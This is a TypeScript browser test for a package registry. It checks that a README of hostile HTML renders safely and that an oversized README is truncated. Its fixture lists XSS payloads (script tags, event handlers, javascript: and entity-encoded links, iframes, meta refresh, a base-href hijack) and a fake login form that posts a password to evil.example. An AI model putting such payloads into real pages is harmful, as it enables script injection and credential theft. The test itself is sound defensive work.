/** In Chromium: hostile READMEs (script, handlers, javascript: links, a 10 MB file) render safely. */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import type { Browser } from 'playwright-core';
import { startRegistry, type TestRegistry } from '../helpers/registry.ts';
import { publishTarball, signUp } from '../helpers/client.ts';
import { packageTarball } from '../fixtures/tarballs.ts';
import { launch, openPage, skipWithoutChromium, step } from './browser.ts';

const skip = skipWithoutChromium();

const HOSTILE = [
  '# Totally normal',
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned = 2">',
  '<img src="http://plain.example/tracker.png">',
  '<a href="javascript:window.__pwned=3">click me</a> [also](javascript:window.__pwned=4)',
  '<a href="&#106;avascript:window.__pwned=5">entity</a>',
  '<iframe src="https://evil.example/"></iframe>',
  '<div onmouseover="window.__pwned=6" style="position:fixed;inset:0">cover</div>',
  '<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>',
  '<svg><script>window.__pwned=7</script></svg><math><mtext><script>window.__pwned=8</script></mtext></math>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '',
  'Text after.',
].join('\n');

describe('hostile READMEs', { skip }, () => {
  let r: TestRegistry;
  let browser: Browser;

  before(async () => {
    r = await startRegistry();
    const { token } = await signUp(r.api);
    const ok = async (name: string, readme: string) => {
      const res = await publishTarball(r.api, token, packageTarball({ name, version: '1.0.0' }, { files: { 'README.md': readme } }));
      assert.equal(res.status, 201, JSON.stringify(res.body));
    };
    await ok('hostile-readme', HOSTILE);
    // 10 MB: kept up to 500 KB at publish, cut with a note.
    const line = '- a line of a very long README, *with* [a link](https://example.com/x)\n';
    await ok('huge-readme', `# Huge\n\n${line.repeat(Math.ceil((10 * 1024 * 1024) / line.length))}THE-END-MARKER\n`);
    browser = await launch();
  });
  after(async () => {
    await browser?.close();
    await r?.close();
  });

  test('no script runs, no handler, no javascript: link, no plain-http image, nothing framed or posted away', async () => {
    const page = await openPage(browser);
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    const requests: string[] = [];
    page.on('request', (req) => requests.push(req.url()));
    await step(page, 'hostile-readme', async () => {
      await page.goto(`${r.url}/packages/hostile-readme`);
      const readme = page.locator('section.readme');
      assert.ok(await readme.locator('h2', { hasText: 'Totally normal' }).isVisible());
      assert.ok(await readme.getByText('Text after.').isVisible());
      await readme.locator('a', { hasText: 'click me' }).click();
      await page.mouse.move(300, 300);
      assert.equal(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned), undefined);
      assert.deepEqual(dialogs, []);
      const html = await readme.innerHTML();
      assert.doesNotMatch(html, /<(script|iframe|form|input|meta|base|svg|math|style)\b/i);
      assert.doesNotMatch(html, /\son[a-z]+\s*=/i);
      assert.doesNotMatch(html, /href\s*=\s*"?\s*javascript:/i);
      assert.doesNotMatch(html, /style=/i);
      for (const src of await readme.locator('img').evaluateAll((imgs) => imgs.map((i) => i.getAttribute('src')))) {
        assert.match(src ?? '', /^https:\/\//);
      }
      assert.ok(!requests.some((u) => u.startsWith('http://plain.example') || u.startsWith('https://evil.example')), requests.join('\n'));
      assert.equal(new URL(page.url()).pathname, '/packages/hostile-readme');
    });
    await page.context().close();
  });

  test('a 10 MB README is cut at 500 KB with a note, and the page still loads quickly', async () => {
    const page = await openPage(browser);
    await step(page, 'huge-readme', async () => {
      const started = Date.now();
      const res = await page.goto(`${r.url}/packages/huge-readme`);
      assert.equal(res?.status(), 200);
      const body = await res!.text();
      assert.ok(body.length < 1.5 * 1024 * 1024, `page is ${body.length} bytes`);
      assert.ok(!body.includes('THE-END-MARKER'));
      assert.match(await page.locator('section.readme .note').innerText(), /This README is 10240 KB; only its first part is shown here/);
      assert.ok(Date.now() - started < 10_000);
    });
    await page.context().close();
  });
});
